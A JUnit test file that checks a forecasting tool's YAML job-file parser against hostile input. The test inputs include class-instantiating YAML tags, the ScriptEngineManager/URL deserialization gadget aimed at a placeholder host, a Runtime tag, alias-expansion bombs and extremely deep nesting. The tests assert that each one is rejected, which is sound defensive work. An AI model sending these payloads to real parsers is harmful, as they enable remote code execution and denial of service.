package io.gatecast.forecasting.job;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gatecast.forecasting.ExitCode;
import io.gatecast.forecasting.JobFault;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Proves that a hostile job file neither runs code nor takes time or memory. */
class JobFileSafetyTest {
  private static final String GOOD = "job: a\nsource: {csv: a.csv, time: t}\ntarget: y\n";
  private static final AtomicInteger MADE = new AtomicInteger();

  /** What a tag in a job file must not construct. */
  public static final class Bait {
    /** Would be called by a YAML reader that trusts its input. */
    public Bait() {
      MADE.incrementAndGet();
    }

    /** The same with an argument. */
    public Bait(String argument) {
      this();
    }
  }

  private static JobFault fault(String text) {
    Supplier<JobFault> read =
        () -> assertThrows(JobFault.class, () -> JobFile.parse(text, "f.yaml", Path.of("/x")));
    JobFault fault = assertTimeoutPreemptively(Duration.ofSeconds(10), read::get);
    assertEquals(ExitCode.USAGE, fault.exit());
    assertTrue(fault.where().startsWith("f.yaml"), fault.where());
    return fault;
  }

  @Test
  void tagConstructsNothing() {
    String tag = "!!" + Bait.class.getName();
    assertEquals(
        "a", JobFile.parse(GOOD.replace(" a\n", " " + tag + " a\n"), "f", Path.of("/x")).name());
    fault(GOOD + "horizon: " + tag + " {}\n");
    fault(GOOD + "horizon: " + tag + " [x]\n");
    fault(GOOD + "horizon: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]\n");
    fault(GOOD + tag + " k: 1\n");
    fault("!!java.lang.Runtime {}\n");
    assertEquals(0, MADE.get());
    new Bait();
    assertEquals(1, MADE.get(), "the bait does tell");
  }

  @Test
  void aliasBombIsRefusedAtOnce() {
    for (int fan : new int[] {2, 9}) {
      String bomb =
          "x0: &a0 [lol]\n"
              + IntStream.range(1, 40)
                  .mapToObj(
                      i ->
                          "x" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(fan) + "]\n")
                  .collect(Collectors.joining());
      assertTrue(fault(GOOD + bomb).found().contains("aliases"), "fan of " + fan);
    }
  }

  @Test
  void bombBelowTheAliasLimitIsNeverUnfolded() {
    String bomb =
        "x0: &a0 [lol]\n"
            + IntStream.range(1, 24)
                .mapToObj(i -> "x" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n")
                .collect(Collectors.joining());
    assertEquals("f.yaml, line 4, key x0", fault(GOOD + bomb).where());
    assertEquals("f.yaml, line 1, key inputs", fault("inputs: &a [*a, *a]\n" + GOOD).where());
  }

  @Test
  void thousandsOfLevelsAreRefused() {
    assertTrue(fault(GOOD + "inputs: " + "[".repeat(50_000)).expected().contains("a YAML mapping"));
    fault(GOOD + "inputs: " + "[".repeat(50_000) + "]".repeat(50_000));
  }

  @Test
  void keyThatIsNoTextIsRefused() {
    fault(GOOD + "? [a, b]\n: 1\n");
    fault(GOOD + "? &k [*k]\n: 1\n");
  }
}
